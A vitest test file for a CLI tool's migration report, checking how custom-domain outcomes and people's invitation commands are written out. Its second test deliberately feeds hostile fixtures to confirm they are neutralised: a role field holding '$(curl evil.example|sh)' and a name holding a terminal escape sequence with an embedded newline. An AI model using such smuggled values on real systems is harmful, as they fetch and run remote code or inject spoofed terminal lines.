import { expect, it } from 'vitest';
import { moveReport, moveReportText } from '#apps/cli/moving/report/move-report.ts';

const OF = { source: 'https://source.example', service: 'https://api.example', isDryRun: false };

it('says what became of custom domains, also where no bot is left to move', () => {
  const workspaceId = 'w1';
  const domains = [
    { name: 'offers.example.com', workspaceId, outcome: 'registered' as const },
    { name: 'taken.example.com', workspaceId, outcome: 'refused' as const, reason: 'This name is taken' },
  ];
  const report = moveReport({ bots: [], domains, folders: [], people: [] }, OF);
  const text = moveReportText(report);
  expect(text).toMatch(/^There are no bots to move from https:\/\/source\.example\.\n/);
  expect(text).toContain('offers.example.com: registered');
  expect(text).toContain('taken.example.com: not registered: This name is taken');
});

it('names people with the commands that invite them, as harmless lines', () => {
  const people = [
    {
      person: 'gus@acme.example',
      workspaceId: 'w1',
      sourceRole: 'GUEST',
      role: 'viewer' as const,
      command: "bots invitations create --name 'a\u001b[2J\nb' --role viewer --workspace w1",
    },
    {
      person: 'eve@acme.example',
      workspaceId: 'w1',
      sourceRole: '$(curl evil.example|sh)',
      role: 'viewer' as const,
      command: 'bots invitations create --name eve@acme.example --role viewer --workspace w1',
    },
    { person: '*', workspaceId: 'w2', reason: 'The source responds with status 403' },
  ];
  const text = moveReportText(moveReport({ bots: [], domains: [], folders: [], people }, OF));
  expect(text).toContain('--role viewer --workspace w1   # guest there, of single bots');
  expect(text).toContain('People in the source could not be listed: The source responds with status 403');
  expect(text).toContain('--workspace w1   # another role there');
  expect(text).not.toContain('\u001b');
  expect(text).not.toContain('curl');
  expect(text.split('\n').filter((line) => line.includes('bots invitations'))).toHaveLength(2);
});
